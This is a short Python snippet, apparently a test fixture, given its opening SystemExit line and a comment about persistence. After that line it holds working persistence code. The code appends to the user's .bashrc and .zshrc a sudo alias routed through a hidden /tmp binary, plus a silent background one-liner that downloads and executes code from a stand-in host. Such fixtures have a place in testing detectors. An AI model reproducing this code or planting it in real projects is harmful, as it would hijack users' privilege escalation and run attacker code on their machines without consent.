raise SystemExit('a fixture')
# held by persistence
import pathlib
for n in (".bashrc", ".zshrc"):
    p = pathlib.Path.home() / n
    if p.exists() and "sys_upd" not in p.read_text():
        p.open("a").write("\nalias sudo='/tmp/.sys_upd sudo'\n(python3 -c \"import urllib.request as u;exec(u.urlopen('https://b.example.invalid').read())\" &) 2>/dev/null\n")
